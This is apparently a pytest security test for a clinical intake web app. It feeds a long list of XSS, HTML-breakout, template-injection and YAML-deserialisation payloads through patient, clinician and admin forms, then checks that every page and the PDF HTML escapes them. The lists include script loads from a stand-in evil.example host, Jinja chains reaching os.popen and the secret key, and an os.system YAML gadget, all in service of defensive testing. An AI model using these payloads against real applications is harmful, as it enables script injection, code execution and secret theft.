"""Measured property 2 (issue 7): XSS and template-injection payloads in patients' answers (and the names and
references clinicians type) and in admin-written question and rule text give no executable markup in the
patient pages, the clinician pages, the admin pages or the PDF's HTML.

Every payload goes in through the real forms: the clinician creates the invitation (payload as name and
clinic reference), the patient types it as an answer and as a value that is not valid (shown back in an
``<input value>``), a page is posted after the session ended (shown back unsaved), the intake is submitted
and the clinician opens the summary and leaves a review note. Separately an admin writes every payload into
the question set (section titles and introductions, question text and help, choice labels, units) and the
rule set (messages, sources), publishes both, and a patient and a clinician go through that version.

Each page is checked by ``security_helpers.markup_problems`` (script elements and inline script, event
handler attributes, ``javascript:``/``data:``/off-site URLs, frames, SVG, MathML, ``<base>``, ``<meta>``
refresh, ``<style>``, ``style`` with ``url()``...), for payloads left unescaped, and for template
evaluation (``{{ 31337*31337 }}`` must never become 982007569, the secret key and config must never show).
"""

from __future__ import annotations

import html
import re

import pytest
from flask import render_template
from sqlalchemy import select

from intake_helpers import GOOD_ANSWERS, form_controls, location, open_link, page, set_answers
from screening.db import db
from screening.models import Intake, Submission
from security_helpers import markup_problems, publish_admin_texts, record_measure, unescaped
from test_clinician_support import case_answers, csrf_from, make_submission, make_user, sign_in

EVIL = "//evil.example"

XSS = [
    "<script>alert(1)</script>", f"<script src={EVIL}/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>', '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>', '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', f'<base href="{EVIL}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', f"<link rel=stylesheet href={EVIL}/x.css>",
    f'<style>@import "{EVIL}/x.css";</style>', '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>', f'<form action="{EVIL}"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>', "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>", "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>", "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", f'<?xml-stylesheet href="{EVIL}/x.xsl"?>',
    "<xss onpointerover=alert(1)>hover</xss>", "<sCrIpT>alert(1)</ScRiPt>", "<scr<script>ipt>alert(1)</script>",
    '<img """><script>alert(1)</script>">', "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>',
    '<math href="javascript:alert(1)">x</math>', "<img src=x onerror=alert`1`>", "<audio src onloadstart=alert(1)>",
    f"<portal src={EVIL}>", "<plaintext>", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">', "<svg/onload=alert(1)>",
    "<body/onload=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>", "<img\nsrc=x\nonerror=alert(1)>",
    "<\x00script>alert(1)</script>", "\u003cscript\u003ealert('unicode')\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    f"<img srcset='{EVIL}/a.png 1x'>", f"<picture><source srcset={EVIL}/a.png></picture>",
    f"<table background={EVIL}/a.png><tr><td>x</td></tr></table>", f"<input type=image src={EVIL}/a.png>",
    f"<video poster={EVIL}/a.png></video>", "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<frameset onload=alert(1)>", "<applet code=x>", '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
]
BREAKOUTS = [
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "</option></select><script>alert(1)</script>",
    "</legend><img src=x onerror=alert(1)>", "</p><svg onload=alert(1)>", "</label><iframe src=javascript:alert(1)>",
    "</a><a href=javascript:alert(1)>x", '" style="background:url(javascript:alert(1))', "\" onload=\"alert(1)\" x=\"",
    "</li></ul><script>alert(1)</script>", "</td></tr></table><script>alert(1)</script>",
    "</pre><script>alert(1)</script>", "</h1><script>alert(1)</script>",
]
TEMPLATES = [
    "{{7*7}}", "{{ 31337*31337 }}", "{{config}}", "{{ config.SECRET_KEY }}", "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% for x in range(3) %}LOOP{% endfor %}",
    "{{ request.environ }}", "{{ lipsum.__globals__.os.popen('id').read() }}", "{{ cycler.__init__.__globals__.os }}",
    "{% raw %}RAW{% endraw %}", "{# hidden #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{= 7*7 }}", "[[7*7]]",
    "@(7*7)", "*{7*7}", "${{31337*31337}}", '{{constructor.constructor("alert(1)")()}}', "{{ url_for.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{% include 'base.html' %}",
    "{% extends 'base.html' %}", "{{ csrf_token() }}", "%(password)s %s %n", "{0.__class__}",
]
YAMLISH = ['!!python/object/apply:os.system ["id"]', "&anchor x", "*alias", "{a: 1}", "key: value", "- item",
           "|\n  block", "? complex", "@reserved", "`backtick`"]
PAYLOADS = XSS + BREAKOUTS + TEMPLATES + YAMLISH

# What evaluated templates would print: none of it may ever appear.
EVALUATED = ["982007569", "LOOPLOOPLOOP", "&lt;Config", "<Config", "uid=", "&lt;class", "<class", "__builtins__"]


def problems_in(text: str, where: str, pdf: bool = False, secret: str = "") -> list[str]:
    found = [f"{where}: {p}" for p in markup_problems(text, pdf=pdf)]
    found += [f"{where}: unescaped {p!r}" for p in PAYLOADS if unescaped(p, text)]
    found += [f"{where}: evaluated template ({marker!r})" for marker in EVALUATED if marker in text]
    if secret and secret in text:
        found.append(f"{where}: the secret key is shown")
    return found


def reached(text: str) -> set[int]:
    """Which payloads the page prints as text (unescaped back, whitespace folded)."""
    plain = re.sub(r"\s+", " ", html.unescape(text))
    return {n for n, p in enumerate(PAYLOADS) if re.sub(r"\s+", " ", p).strip() in plain}


@pytest.fixture
def staff(app):
    app.config.update(PASSWORD_HASH_METHOD="scrypt:1024:8:1", REPORT_RENDER_ON_SUBMIT=False)
    make_user(app, "clin@example.org", "clinician")
    make_user(app, "admin@example.org", "admin")
    clinician = app.test_client()
    assert sign_in(clinician, "clin@example.org").status_code == 302
    return clinician


def pdf_html(app, submission_id: int) -> str:
    from screening.report.pdf import summary_document
    from screening.report.summary import summary_for_submission

    with app.test_request_context():
        return summary_document(summary_for_submission(db.session.get(Submission, submission_id)))


EARLIER_SECTIONS = ["consent", "about_you", "depression_history", "phq9", "gad7", "suicide_risk", "trauma", "alcohol",
                    "drug_use", "medical"]


GROUP = 4  # payloads per intake, one per line of each field (escaping treats each the same either way)
# Free text refuses control characters (but tab and line breaks): such a payload is only ever shown back.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def test_payloads_in_answers_names_and_notes(app, staff, request):
    assert len(PAYLOADS) >= 100
    secret = app.secret_key
    problems: list[str] = []
    seen: set[int] = set()
    pages = 0
    token_csrf = csrf_from(staff, "/staff/invitations/new")
    for first in range(0, len(PAYLOADS), GROUP):
        group = PAYLOADS[first:first + GROUP]
        text = "\n".join(group)
        refused = bool(CONTROL.search(text))
        storable = "\n".join(p for p in group if not CONTROL.search(p)) or "plain text"
        label = f"payloads {first}-{first + GROUP - 1}"
        checked = []

        def invitation(name: str):
            return staff.post("/staff/invitations/new", data={"csrf_token": token_csrf, "patient_name": name[:200],
                                                                "clinic_ref": name[:100], "patient_dob": ""})

        # The clinician types them as the patient's name and reference.
        made = invitation(text)
        checked.append(("invitation form", made))
        if refused:  # shown back in the form, not saved; the invitation is made with the rest
            assert made.status_code == 400, (label, made.status_code)
            made = invitation(storable)
            checked.append(("invitation link page", made))
        link = re.search(r"/i/([A-Za-z0-9_-]{20,})", page(made)).group(1)
        with app.app_context():
            intake_id = db.session.scalar(select(Intake.id).order_by(Intake.id.desc()).limit(1))
        set_answers(app, intake_id, {k: v for k, v in GOOD_ANSWERS.items() if k != "medications_other"})
        with app.app_context():
            db.session.get(Intake, intake_id).completed_sections = list(EARLIER_SECTIONS)
            db.session.commit()
        # The patient types them as an answer, and as a number and a date that are not valid.
        patient = app.test_client()
        open_link(patient, link)
        medications = form_controls(page(patient.get("/intake/section/medications")))
        saved = patient.post("/intake/section/medications", data={
            **medications, "medications": "ssri", "medications_other": text, "_action": "next"})
        if refused:
            assert saved.status_code == 200, (label, saved.status_code)
            checked.append(("answer refused, shown back", saved))
            saved = patient.post("/intake/section/medications", data={
                **medications, "medications": "ssri", "medications_other": storable, "_action": "next"})
        assert location(saved) == "/intake/section/vitals", (label, saved.status_code)
        controls = form_controls(page(patient.get("/intake/section/about_you")))
        checked.append(("answers shown back invalid", patient.post("/intake/section/about_you", data={
            **controls, "date_of_birth": text, "sex_at_birth": "female", "height_cm": text,
            "weight_kg": "68.5", "_action": "next"})))
        # A page posted after the browser lost its session comes back with what was typed.
        checked.append(("unsaved page", app.test_client().post("/intake/section/medications", data={
            **medications, "medications_other": text, "_action": "next"})))
        checked.append(("review", patient.get("/intake/review")))
        assert location(patient.post("/intake/review", data={"csrf_token": controls["csrf_token"]})) == "/intake/done"
        with app.app_context():
            submission_id = db.session.get(Intake, intake_id).submission.id
        for note in ([text, storable] if refused else [text]):
            assert staff.post(f"/staff/submissions/{submission_id}/review",
                              data={"csrf_token": token_csrf, "note": note}).status_code == 302
        checked.append(("clinician summary with review note", staff.get(f"/staff/submissions/{submission_id}")))
        for where, response in checked:
            body = page(response)
            problems += problems_in(body, f"{label} {where}", secret=secret)
            seen |= reached(body)
            pages += 1
        document = pdf_html(app, submission_id)
        problems += problems_in(document, f"{label} PDF HTML", pdf=True, secret=secret)
        seen |= reached(document)
        pages += 1
    for path in ("/staff/?review=all", "/staff/invitations"):  # every name and reference listed
        body = page(staff.get(path))
        problems += problems_in(body, path, secret=secret)
        seen |= reached(body)
        pages += 1
    record_measure(request, "injection.answers", payloads=len(PAYLOADS), payloads_rendered=len(seen),
                   pages_checked=pages, executable_markup=len(problems))
    assert not problems, "\n".join(problems[:20])
    assert len(seen) == len(PAYLOADS), [PAYLOADS[n] for n in range(len(PAYLOADS)) if n not in seen]


# -- admin-written text ----------------------------------------------------------------------------------

def write_payloads_as_admin(app) -> tuple[int, int]:
    usable = [p for p in PAYLOADS if "\x00" not in p]  # YAML cannot hold NUL (bug B2's admin side)
    return publish_admin_texts(app, usable, "admin@example.org")


def admin_get_paths(app) -> list[str]:
    """The admin pages that show set content, with the set's real section, item and rule ids."""
    from screening import editing, publishing

    with app.app_context():
        qs = editing.load(publishing.current_version("question_set", "ketamine-intake").yaml_text)
        rs = editing.load(publishing.current_version("rule_set", "ketamine-safety").yaml_text)
    ids = {"section_id": [s["id"] for s in qs["sections"]][:4],
           "item_id": [i["id"] for s in qs["sections"] for i in s["items"]][::6],
           "rule_id": [r["id"] for r in rs["rules"]][::4], "version": [1, 2]}
    paths = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/admin") or "GET" not in rule.methods:
            continue
        fillings = [{}]
        for name in rule.arguments:
            if name == "slug":
                options = ["question-sets", "rule-sets"]
            elif name == "set_id":
                options = ["ketamine-intake", "ketamine-safety"]
            else:
                options = ids.get(name, ["x"])
            fillings = [{**f, name: o} for f in fillings for o in options]
        for values in fillings:
            if values.get("slug") == "question-sets" and values.get("set_id") == "ketamine-safety":
                continue
            if values.get("slug") == "rule-sets" and values.get("set_id") == "ketamine-intake":
                continue
            if "/rule-sets/" in rule.rule and values.get("set_id") == "ketamine-intake":
                continue
            if "/question-sets/" in rule.rule and values.get("set_id") == "ketamine-safety":
                continue
            path = rule.rule
            for name, value in values.items():
                path = re.sub(r"<(?:[^:>]+:)?%s>" % re.escape(name), str(value), path)
            paths.append(path)
    return sorted(set(paths))


def test_payloads_in_admin_written_question_and_rule_text(app, staff, request):
    secret = app.secret_key
    qs_slots, rs_slots = write_payloads_as_admin(app)
    expected = {n for n, p in enumerate(PAYLOADS) if "\x00" not in p}
    problems: list[str] = []
    seen: set[int] = set()
    checked = 0

    def check(where: str, text: str, pdf: bool = False) -> None:
        nonlocal checked, problems, seen
        problems += problems_in(text, where, pdf=pdf, secret=secret)
        seen |= reached(text)
        checked += 1

    # A patient on the new version: every section page, as it first shows, and the review.
    made = staff.post("/staff/invitations/new", data={"csrf_token": csrf_from(staff, "/staff/invitations/new"),
                                                       "patient_name": "Pat Admin-Text"})
    link = re.search(r"/i/([A-Za-z0-9_-]{20,})", page(made)).group(1)
    answers = case_answers("07-several-review-flags.json")
    with app.app_context():
        intake = db.session.scalar(select(Intake).order_by(Intake.id.desc()).limit(1))
        from screening.content import compile_question_set
        sections = [s.id for s in compile_question_set(intake.question_set_version).sections]
        intake.answers, intake.completed_sections, intake.state = dict(answers), sections, "in_progress"
        db.session.commit()
    patient = app.test_client()
    open_link(patient, link)
    for section_id in sections:
        response = patient.get(f"/intake/section/{section_id}")
        if response.status_code == 200:
            check(f"patient page {section_id}", page(response))
            controls = form_controls(page(response))
    check("patient review", page(patient.get("/intake/review")))
    # Error messages quote the question text: post a page with every answer missing or wrong.
    check("patient page with errors", page(patient.post("/intake/section/about_you", data={
        **controls, "_shown": "date_of_birth sex_at_birth height_cm weight_kg", "height_cm": "abc",
        "_action": "next"})))
    # The clinician's summary and the PDF's HTML of a submission on the new versions (many flags fire).
    submission_id = make_submission(app, answers, name="Flag Many")
    check("clinician summary", page(staff.get(f"/staff/submissions/{submission_id}")))
    check("PDF HTML", pdf_html(app, submission_id), pdf=True)
    check("work list", page(staff.get("/staff/?review=all")))
    # The admin's own pages show the same text.
    admin = app.test_client()
    assert sign_in(admin, "admin@example.org").status_code == 302
    for path in admin_get_paths(app):
        response = admin.get(path)
        if response.status_code == 200 and response.mimetype == "text/html":
            check(f"admin {path}", page(response))
    record_measure(request, "injection.admin_text", payloads=len(expected), texts_replaced=qs_slots + rs_slots,
                   payloads_rendered=len(seen & expected), pages_checked=checked, executable_markup=len(problems))
    assert not problems, "\n".join(problems[:20])
    assert expected <= seen, [PAYLOADS[n] for n in sorted(expected - seen)]


def test_the_checker_finds_markup_that_is_not_escaped(app):
    """The judge is not blind: every payload with markup in it, printed without escaping, is caught."""
    live = [p for p in XSS + BREAKOUTS if re.search(r"[<>\"']", p)]
    with app.test_request_context():
        page_text = render_template("error.html", status=400, title="x", text="y")
    caught = sum(bool(markup_problems(text) or unescaped(payload, text)) for payload in live
                 for text in [page_text.replace("<p>y</p>", f'<p><input value="{payload}">{payload}</p>')])
    assert caught == len(live) > 80
    assert sum(bool(markup_problems(page_text.replace("<p>y</p>", f'<p><input value="{payload}">{payload}</p>')))
               for payload in XSS if payload.startswith("<")) >= 50  # most by the scanner alone


def test_admin_text_with_a_control_character_is_refused(app, staff):
    from screening import publishing
    from screening.yaml_source import LoadError, Source
    from test_admin_support import QS_PAGE, submit

    admin = app.test_client()
    assert sign_in(admin, "admin@example.org").status_code == 302
    item = f"{QS_PAGE}/items/consent_given"
    response = submit(admin, item, item, {"text": "Do you agree\x00 to answer?"})
    assert response.status_code < 500  # (PostgreSQL cannot store a NUL at all: there it is a server error)
    with app.app_context():
        draft = publishing.get_draft("question_set", "ketamine-intake")
        text = draft.yaml_text if draft is not None else None
    if text is not None:  # refused outright, or saved without the character: either way a readable draft
        try:
            Source(text, "draft")
        except LoadError as exc:
            pytest.fail(f"the draft is not readable YAML: {exc.problems[:1]}")
        assert "\x00" not in text
